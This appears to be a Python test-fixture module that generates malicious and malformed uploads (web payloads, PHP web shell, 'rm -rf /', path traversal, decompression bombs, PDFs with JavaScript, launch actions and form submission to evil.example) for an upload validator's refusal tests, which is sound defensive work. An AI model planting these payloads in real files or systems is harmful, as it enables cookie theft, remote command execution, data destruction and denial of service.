"""Files that somebody sends who means harm, or has chosen the wrong one; made here, in code."""

import zlib
from collections.abc import Callable
from io import BytesIO
from struct import pack
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image

SCRIPT = b"<script>alert(document.cookie)</script>"
LARGEST = 5 * 1024 * 1024


def jpeg(size: tuple[int, int] = (64, 48), **options: Any) -> bytes:
    """A picture of nothing."""
    written = BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(written, "JPEG", **options)
    return written.getvalue()


def png(size: tuple[int, int] = (64, 48), **options: Any) -> bytes:
    """The same as PNG."""
    written = BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(written, "PNG", **options)
    return written.getvalue()


def archive(name: str = "photo.jpg", content: bytes = b"x") -> bytes:
    """A ZIP file."""
    packed = BytesIO()
    with ZipFile(packed, "w", ZIP_DEFLATED) as opened:
        opened.writestr(name, content)
    return packed.getvalue()


def other(kind: str) -> bytes:
    """A picture in a format that is not taken."""
    written = BytesIO()
    Image.new("RGB", (32, 32), "red").save(written, kind)
    return written.getvalue()


def png_of(*chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG of these chunks."""
    parts = [
        pack(">I", len(body)) + kind + body + pack(">I", zlib.crc32(kind + body))
        for kind, body in chunks
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def header(width: int, height: int) -> tuple[bytes, bytes]:
    """The chunk that tells the size."""
    return b"IHDR", pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)


def png_bomb(width: int, height: int) -> bytes:
    """A PNG whose header promises many pixels; there are none."""
    return png_of(header(width, height), (b"IDAT", zlib.compress(b"\x00" * 1000)), (b"IEND", b""))


def png_text_bomb() -> bytes:
    """A small picture with 64 MB of compressed comment."""
    text = b"Comment\x00\x00" + zlib.compress(b"A" * 64_000_000, 9)
    pixels = zlib.compress(b"\x00" + b"\xff" * 3)
    return png_of(header(1, 1), (b"zTXt", text), (b"IDAT", pixels), (b"IEND", b""))


def jpeg_of_size(width: int, height: int) -> bytes:
    """A JPEG whose header promises more than there is."""
    made = bytearray(jpeg())
    at = made.index(b"\xff\xc0") + 5
    made[at : at + 4] = pack(">HH", height, width)
    return bytes(made)


def pdf(
    change: Callable[[Pdf], object] = lambda _: None, *, pages: int = 1, **options: Any
) -> bytes:
    """A PDF with one word on each page, changed."""
    with pikepdf.new() as made:
        for _ in range(pages):
            page = made.add_blank_page(page_size=(200, 200))
            page.Contents = made.make_stream(b"BT ET")
        change(made)
        written = BytesIO()
        made.save(written, **options)
    return written.getvalue()


def action(**parts: Any) -> Dictionary:
    """An action of a PDF."""
    return Dictionary(Type=Name.Action, **parts)


def opening(act: Dictionary) -> Callable[[Pdf], object]:
    """Acts when the file is opened."""
    return lambda made: made.Root.__setattr__("OpenAction", act)


def on_page(act: Dictionary) -> Callable[[Pdf], object]:
    """Acts when the page is shown."""
    return lambda made: made.pages[0].obj.__setattr__("AA", Dictionary(O=act))


def by_link(act: Dictionary) -> Callable[[Pdf], object]:
    """Acts when somebody touches the page."""

    def change(made: Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 200, 200]), A=act)
        made.pages[0].obj.Annots = Array([made.make_indirect(link)])

    return change


def named_script(made: Pdf) -> None:
    """JavaScript of the whole document."""
    script = made.make_indirect(action(S=Name.JavaScript, JS="app.alert(1)"))
    names = Dictionary(Names=Array(["a", script]))
    made.Root.Names = Dictionary(JavaScript=names)


def hidden_script(made: Pdf) -> None:
    """JavaScript in an object that nothing refers to; a broken reader may find it."""
    made.Root.Unused = made.make_indirect(
        Dictionary(Deep=Array([Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))]))
    )


def attached(made: Pdf) -> None:
    """A program in the PDF."""
    made.attachments["../../bin/sh.exe"] = b"MZ" + b"\x00" * 100


def xfa(made: Pdf) -> None:
    """A form in XML."""
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp/>"))


def annotation(kind: str) -> Callable[[Pdf], object]:
    """A moving picture, a sound, a 3D model."""

    def change(made: Pdf) -> None:
        thing = Dictionary(Type=Name.Annot, Subtype=Name(kind), Rect=Array([0, 0, 9, 9]))
        made.pages[0].obj.Annots = Array([made.make_indirect(thing)])

    return change


def stream_bomb(made: Pdf) -> None:
    """A page that is 600 MB of spaces."""
    squeezer = zlib.compressobj(9)
    squeezed = b"".join(squeezer.compress(b" " * 10_000_000) for _ in range(60))
    made.pages[0].obj.Contents = made.make_stream(b"")
    made.pages[0].obj.Contents.write(squeezed + squeezer.flush(), filter=Name.FlateDecode)


def nested_bomb(made: Pdf) -> None:
    """The same, squeezed twice."""
    squeezer = zlib.compressobj(9)
    squeezed = b"".join(squeezer.compress(b" " * 10_000_000) for _ in range(150))
    twice = zlib.compress(squeezed + squeezer.flush(), 9)
    made.pages[0].obj.Contents = made.make_stream(b"")
    made.pages[0].obj.Contents.write(twice, filter=Array([Name.FlateDecode, Name.FlateDecode]))


def many_parts(made: Pdf) -> None:
    """Hundreds of thousands of empty arrays."""
    made.Root.Unused = Array([Array() for _ in range(210_000)])


def deep(levels: int) -> bytes:
    """Arrays in arrays in arrays."""
    return pdf().replace(
        b"/Type /Catalog", b"/A " + b"[" * levels + b"]" * levels + b"/Type /Catalog"
    )


def _pages_in_a_circle() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\n%%EOF\n"
    )


_JS = action(S=Name.JavaScript, JS="app.launchURL('http://evil.example')")
_RUN = action(S=Name.Launch, F="cmd.exe")
_LOCKED = {"encryption": pikepdf.Encryption(owner="secret", user="secret", R=6)}
_LOCKED_FOR_CHANGES = {"encryption": pikepdf.Encryption(owner="secret", user="", R=6)}

REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing": ("empty", lambda: b""),
    "5 MB + 1": ("too-large", lambda: jpeg() + b"\x00" * (LARGEST + 1 - len(jpeg()))),
    "a NUL": ("media-type", lambda: b"\x00"),
    "a text": ("media-type", lambda: b"photo.jpg"),
    "a path": ("media-type", lambda: b"../../etc/passwd\x00.jpg"),
    "a page": ("media-type", lambda: b"<!DOCTYPE html>" + SCRIPT),
    "a page before a JPG": ("media-type", lambda: b"<html>" + SCRIPT + jpeg()),
    "a drawing with a script": (
        "media-type",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
    ),
    "an XML bomb": (
        "media-type",
        lambda: b'<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>',
    ),
    "a Windows program": ("media-type", lambda: b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200),
    "a Linux program": ("media-type", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
    "a macOS program": ("media-type", lambda: b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 200),
    "a shell script": ("media-type", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "a PHP script": ("media-type", lambda: b"<?php system($_GET['c']); ?>"),
    "a GIF": ("media-type", lambda: other("GIF")),
    "a GIF that is a script": ("media-type", lambda: b"GIF89a/*\x00\x00*/=alert(1);//"),
    "a BMP": ("media-type", lambda: other("BMP")),
    "a TIFF": ("media-type", lambda: other("TIFF")),
    "a WebP": ("media-type", lambda: other("WEBP")),
    "a Postscript file": ("media-type", lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) run"),
    "a film": ("media-type", lambda: b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 50),
    "a gzip": ("media-type", lambda: b"\x1f\x8b\x08" + zlib.compress(b"x")),
    "a HEIC": ("heic", lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"),
    "an AVIF": ("heic", lambda: b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00mif1avif"),
    "a ZIP": ("office", archive),
    "a ZIP that climbs": ("office", lambda: archive("../../../etc/cron.d/x")),
    "a ZIP bomb": ("office", lambda: archive("bomb", b"\x00" * 50_000_000)),
    "a ZIP of ZIP bombs": (
        "office", lambda: archive("b.zip", archive("bomb", b"\x00" * 50_000_000))
    ),
    "a Word file": ("office", lambda: archive("word/document.xml", b"<w:document/>")),
    "a Word file of 1997": ("office", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
    "a JPG of nothing": ("unreadable", lambda: b"\xff\xd8\xff\xe0"),
    "a JPG of noise": ("unreadable", lambda: b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40),
    "a JPG that was cut": ("unreadable", lambda: jpeg((800, 600))[:2000]),

    "a JPG of 4 gigapixels": ("too-many-pixels", lambda: jpeg_of_size(65_000, 65_000)),
    "a PNG of nothing": ("unreadable", lambda: b"\x89PNG\r\n\x1a\n"),
    "a PNG that was cut": ("unreadable", lambda: png((400, 300))[:-200]),
    "a PNG with a wrong sum": ("unreadable", lambda: png().replace(b"IDAT", b"IDAT\x00", 1)),
    "a PNG of no size": ("unreadable", lambda: png_bomb(0, 0)),
    "a PNG without its pixels": ("unreadable", lambda: png_bomb(5000, 5000)),
    "a PNG of 2,147,483,647 pixels a side": (
        "too-many-pixels", lambda: png_bomb(2_147_483_647, 2_147_483_647)
    ),
    "a PNG of 400 megapixels": ("too-many-pixels", lambda: png_bomb(20_000, 20_000)),
    "a PNG with a bomb in its comment": ("unreadable", png_text_bomb),
    "a program that begins as a PNG": ("unreadable", lambda: b"\x89PNG\r\n\x1a\nMZ" + b"\x00" * 99),
    "a PDF of nothing": ("unreadable", lambda: b"%PDF-1.7\n"),
    "a PDF of noise": ("unreadable", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40),
    "a page that begins as a PDF": ("unreadable", lambda: b"%PDF-1.7\n<html>" + SCRIPT),
    "a PDF without pages": ("unreadable", lambda: pdf(pages=0)),
    "a PDF that was cut": ("unreadable", lambda: pdf()[:120]),
    "a PDF whose pages are a circle": ("unreadable", _pages_in_a_circle),
    "a locked PDF": ("encrypted", lambda: pdf(**_LOCKED)),
    "a PDF locked for changes": ("encrypted", lambda: pdf(**_LOCKED_FOR_CHANGES)),
    "a PDF of 21 pages": ("too-many-pages", lambda: pdf(pages=21)),
    "a PDF of 1000 pages": ("too-many-pages", lambda: pdf(pages=1000)),
    "a PDF with a script": ("active", lambda: pdf(named_script)),
    "a PDF with a script at opening": ("active", lambda: pdf(opening(_JS))),
    "a PDF with a script on its page": ("active", lambda: pdf(on_page(_JS))),
    "a PDF with a script under its link": ("active", lambda: pdf(by_link(_JS))),
    "a PDF with a hidden script": ("active", lambda: pdf(hidden_script)),
    "a PDF with a script in packed objects": (
        "active",
        lambda: pdf(named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "a PDF that starts a program": ("active", lambda: pdf(opening(_RUN))),
    "a PDF that starts a program by touch": ("active", lambda: pdf(by_link(_RUN))),
    "a PDF that sends what is typed": (
        "active", lambda: pdf(by_link(action(S=Name.SubmitForm, F="http://evil.example")))
    ),
    "a PDF with an XML form": ("active", lambda: pdf(xfa)),
    "a PDF with a film": ("active", lambda: pdf(annotation("/RichMedia"))),
    "a PDF with a sound": ("active", lambda: pdf(annotation("/Sound"))),
    "a PDF with a 3D model": ("active", lambda: pdf(annotation("/3D"))),
    "a PDF with a program in it": ("attachments", lambda: pdf(attached)),
    "a PDF that opens what is in it": (
        "active", lambda: pdf(opening(action(S=Name.GoToE, T=Dictionary(R=Name.C))))
    ),
    "a PDF bomb": ("too-heavy", lambda: pdf(stream_bomb, compress_streams=False)),
    "a PDF bomb in a bomb": ("too-heavy", lambda: pdf(nested_bomb, compress_streams=False)),
    "a PDF of 210,000 arrays": ("too-heavy", lambda: pdf(many_parts)),
    "a PDF that is too deep": ("unreadable", lambda: deep(20_000)),
}  # fmt: skip
"""What is refused, and for which reason."""
